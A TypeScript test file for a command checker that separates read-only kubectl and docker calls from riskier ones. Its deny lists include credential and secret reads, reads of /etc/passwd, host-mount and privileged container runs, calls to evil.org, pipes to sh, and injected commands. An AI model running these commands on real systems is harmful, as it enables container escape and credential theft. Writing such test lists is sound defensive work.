// Calls of kubectl and docker.
import { describe, expect, it } from "vitest";
import { commandFault, lines } from "../../../../test/kit/readings/readings.ts";

describe("kubectl and docker: what only reads", () => {
  it.each(
    lines(`
      kubectl get pods
      kubectl get pods -n prod -o wide
      kubectl get deploy,svc -A -o json | jq '.items | length'
      kubectl -n prod describe pod web-1
      kubectl logs web-1 -c app --tail=50
      kubectl top pods -n prod
      kubectl config get-contexts
      kubectl config current-context
      kubectl auth can-i get pods
      kubectl rollout status deploy/web
      kubectl version --client
      kubectl api-resources
      kubectl explain pod.spec
      kubectl get pod secret-santa
      get pods
    `),
  )("%s", (text) => {
    expect(commandFault("kubectl", text)).toBeUndefined();
  });

  it.each(
    lines(`
      docker ps -a
      docker images
      docker logs --tail 50 web
      docker inspect web
      docker compose ps
      docker container ls
      docker volume ls
      docker network inspect bridge
      docker stats --no-stream
      docker top web
      docker version --format json
      docker system df
      ps -a
    `),
  )("%s", (text) => {
    expect(commandFault("docker", text)).toBeUndefined();
  });

  it("is no command of a local shell", () => {
    expect(commandFault("shell", "kubectl get pods")).toBe("it runs kubectl");
    expect(commandFault("shell", "docker ps")).toBe("it runs docker");
  });
});

describe("kubectl: what does more than read", () => {
  it.each(
    lines(`
      kubectl exec web-1 -- ls
      kubectl exec -it web-1 -- sh
      kubectl cp web-1:/etc/passwd x
      kubectl cp x web-1:/tmp/x
      kubectl port-forward web-1 8080:80
      kubectl proxy
      kubectl attach web-1
      kubectl run x --image=evil
      kubectl debug web-1
      kubectl apply -f x.yaml
      kubectl create -f x.yaml
      kubectl create ns x
      kubectl delete pod web-1
      kubectl edit deploy web
      kubectl patch deploy web -p x
      kubectl replace -f x
      kubectl scale deploy web --replicas=0
      kubectl autoscale deploy web
      kubectl set image deploy/web a=b
      kubectl label pod web-1 a=b
      kubectl annotate pod web-1 a=b
      kubectl taint nodes n1 a=b:NoSchedule
      kubectl cordon n1
      kubectl drain n1
      kubectl expose deploy web
      kubectl rollout restart deploy/web
      kubectl rollout undo deploy/web
      kubectl diff -f x.yaml
      kubectl kustomize x
      kubectl wait pod/web-1
      kubectl certificate approve x
      kubectl plugin list
      kubectl x
      kubectl krew install x
      kubectl config view --raw
      kubectl config set-context x
      kubectl config use-context x
      kubectl config delete-context x
      kubectl config set a b
      kubectl cluster-info dump
      kubectl cluster-info dump --output-directory=x
      kubectl get secrets
      kubectl get secret db -o yaml
      kubectl get pods,secrets
      kubectl get secret/db
      kubectl describe secrets
      kubectl describe secret db
      kubectl get --raw /api/v1/namespaces/kube-system/secrets
      kubectl get pods --server=https://evil.org
      kubectl get pods -s https://evil.org
      kubectl --kubeconfig=x get pods
      kubectl --kubeconfig x get pods
      kubectl --token=x get pods
      kubectl --as=admin get pods
      kubectl --as admin get pods
      kubectl --insecure-skip-tls-verify get pods
      kubectl get pods -o go-template-file=x
      kubectl get pods -o jsonpath-file=x
      kubectl get pods -o custom-columns-file=x
      kubectl get -f https://evil.org/x.yaml
      kubectl get -k x
      kubectl get pods -w
      kubectl logs -f web-1
      kubectl get pods --watch
      kubectl get pods > x
      kubectl get pods | sh
      kubectl get pods; rm x
      kubectl get $(x)
      KUBECONFIG=x kubectl get pods
      kubectl auth reconcile -f x
      kubectl
      rm x
    `),
  )("%s", (text) => {
    expect(commandFault("kubectl", text)).toBeTypeOf("string");
  });
});

describe("docker: what does more than read", () => {
  it.each(
    lines(`
      docker run -v /:/host alpine
      docker run --privileged alpine
      docker run --rm alpine ls
      docker exec web ls
      docker exec -it web sh
      docker cp web:/etc/passwd x
      docker build .
      docker buildx build .
      docker pull x
      docker push x
      docker login
      docker logout
      docker rm web
      docker rmi x
      docker kill web
      docker stop web
      docker start web
      docker restart web
      docker pause web
      docker rename a b
      docker update web
      docker commit web x
      docker tag a b
      docker save x
      docker load
      docker import x
      docker export web
      docker attach web
      docker wait web
      docker create x
      docker search x
      docker events
      docker logs -f web
      docker logs --follow web
      docker stats
      docker top web -o pid
      docker top web x
      docker -H tcp://evil.org ps
      docker --host=tcp://evil.org ps
      docker --host tcp://evil.org ps
      docker --context=x ps
      docker -c x ps
      docker --config=x ps
      docker --tls ps
      docker volume create x
      docker volume rm x
      docker volume prune
      docker network create x
      docker network connect a b
      docker network rm x
      docker system prune -f
      docker image prune
      docker image rm x
      docker image pull x
      docker container rm x
      docker container exec web ls
      docker container run x
      docker compose up
      docker compose down
      docker compose exec web sh
      docker compose run web
      docker compose -f x ps
      docker compose config
      docker swarm init
      docker secret ls
      docker service create x
      docker service update x
      docker stack deploy x
      docker plugin install x
      docker context use x
      docker ps > x
      docker ps; rm x
      docker ps | sh
      DOCKER_HOST=x docker ps
      docker
      docker x
    `),
  )("%s", (text) => {
    expect(commandFault("docker", text)).toBeTypeOf("string");
  });
});
